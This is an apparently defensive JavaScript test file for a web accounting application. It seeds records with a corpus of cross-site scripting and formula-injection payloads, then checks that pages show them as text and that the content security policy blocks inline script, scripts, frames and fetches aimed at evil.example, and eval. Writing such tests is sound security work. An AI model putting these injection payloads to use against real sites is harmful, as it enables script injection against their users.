// What breaks out of HTML, stored in every text of the main papers, and the main pages looked at: it stays text. The policy of
// the page (CSP) is the second wall, tried beside it in a tab of its own. The last file, so that no other test meets these papers.
import { test } from './harness.mjs'

const corpus = [
  '<img src=x onerror="window.__hit=1">',
  '"><script>window.__hit=1</script>',
  "'-window.__hit-'",
  '<svg/onload=window.__hit=1>',
  'javascript:window.__hit=1',
  '</title><script>window.__hit=1</script>',
  '<a href="javascript:window.__hit=1">点</a>',
  '{{constructor.constructor("window.__hit=1")()}}',
  '=HYPERLINK("http://evil.example","点")',
]

/** Papers and masters whose every text is one of the corpus; answers the addresses where it is shown. */
async function plant(t) {
  const accounts = (await t.api('GET', '/master/accounts?leaf=true')).items
  const fund = accounts.find((a) => a.fund).id
  const other = accounts.find((a) => a.code === '560216').id
  const date = (await t.api('GET', '/session')).company.today
  const routes = []
  for (const [i, text] of corpus.entries()) {
    const customer = await t.api('POST', '/master/parties', { name: `${text}${i}`, contact: text, address: text, note: text, is_customer: true })
    const product = await t.api('POST', '/master/products', { code: `XSS${i}`, name: text, spec: text, unit: '个', price: '2.00' })
    await t.api('POST', '/inventory/openings', { date, note: text, lines: [{ product: product.id, qty: '9', unit_cost: '1' }], approve: true })
    const order = await t.api('POST', '/sales/orders', { customer: customer.id, note: text, lines: [{ product: product.id, qty: '1', price: '2', note: text }], approve: true })
    const delivery = await t.api('POST', '/sales/deliveries', { order: order.id, note: text, approve: true })
    const issue = await t.api('POST', '/inventory/issues', { contra_account: other, reason: text, lines: [{ product: product.id, qty: '1' }], approve: true })
    const receipt = await t.api('POST', '/settlement/receipts', { party: customer.id, amount: '1', fund_account: fund, payer: text, note: text, auto: 'oldest', approve: true })
    if (i === 0) {
      routes.push(`/sales/orders/${order.id}`, `/sales/deliveries/${delivery.id}`, `/inventory/issues/${issue.id}`, `/settlement/receipts/${receipt.id}`)
      routes.push(`/gl/vouchers/${delivery.voucher}`, `/master/parties/${customer.id}`, `/master/products/${product.id}`, `/settlement/receivables/${customer.id}`)
    }
  }
  const asked = encodeURIComponent(corpus[0])
  const lists = ['/sales/orders', '/sales/deliveries', '/settlement/receivables', '/inventory/balances', '/master/parties', '/master/products']
  const searched = ['/sales/orders', '/settlement/receipts', '/inventory/issues', '/gl/vouchers', '/master/parties', '/master/products']
  return ['/', '/sales/orders/new', ...routes, ...lists, ...searched.map((list) => `${list}?q=${asked}`)]
}

test('What breaks out of HTML stays text on the main pages', { once: true }, async (t) => {
  const routes = await plant(t)
  const opened = []
  t.page.on('dialog', (d) => (opened.push(d.message()), d.dismiss()))
  await t.page.addInitScript(() => {
    window.__violations = []
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`))
  })
  let shown = 0
  for (const route of routes) {
    await t.open(route)
    const seen = await t.page.evaluate(() => ({
      hit: window.__hit,
      violations: window.__violations,
      elements: document.querySelectorAll('img[src="x"], svg[onload], iframe, a[href^="javascript:"], script:not([src]):not([nonce])').length,
      text: document.body.innerText.includes('window.__hit') || [...document.querySelectorAll('input, textarea')].some((e) => e.value.includes('window.__hit')),
    }))
    t.equal(seen.hit, undefined, `${route} ran what was stored`)
    t.equal(seen.violations.join('; '), '', `${route} needed the policy`)
    t.equal(seen.elements, 0, `${route} made elements of text`)
    shown += seen.text ? 1 : 0
  }
  t.equal(opened.join(), '', 'dialogs')
  t.ok(shown * 2 > routes.length, `only ${shown} of ${routes.length} pages show what was stored: the test looks in the wrong place`)
})

test('The policy of the page runs no script but that of the server', { once: true }, async (t) => {
  const tab = await t.page.context().newPage()
  await tab.goto(t.base + '/')
  const got = await tab.evaluate(async () => {
    const blocked = []
    document.addEventListener('securitypolicyviolation', (e) => blocked.push(e.effectiveDirective))
    const add = (html) => {
      const box = document.createElement('div')
      box.innerHTML = html
      document.body.append(box)
    }
    add('<img src="data:," onerror="window.__hit=1"><svg onload="window.__hit=1"></svg>')
    for (const part of [{ textContent: 'window.__hit=1' }, { src: 'https://evil.example/x.js' }, { src: 'data:text/javascript,window.__hit=1' }]) {
      document.body.append(Object.assign(document.createElement('script'), part))
    }
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))
    await fetch('https://evil.example/').catch(() => {})
    await new Promise((done) => {
      setTimeout(() => { // the browser lets the debugger itself evaluate: not so a timer of the page
        try {
          new Function('window.__hit=1')()
        } catch {
          blocked.push('eval')
        }
        done()
      })
    })
    await new Promise((r) => setTimeout(r, 400))
    return { hit: window.__hit, blocked }
  })
  await tab.close()
  t.equal(got.hit, undefined, 'a script that the server did not send ran')
  for (const what of ['script-src-attr', 'script-src-elem', 'frame-src', 'connect-src', 'eval']) {
    t.ok(got.blocked.includes(what), `${what} was not stopped: ${got.blocked}`)
  }
})
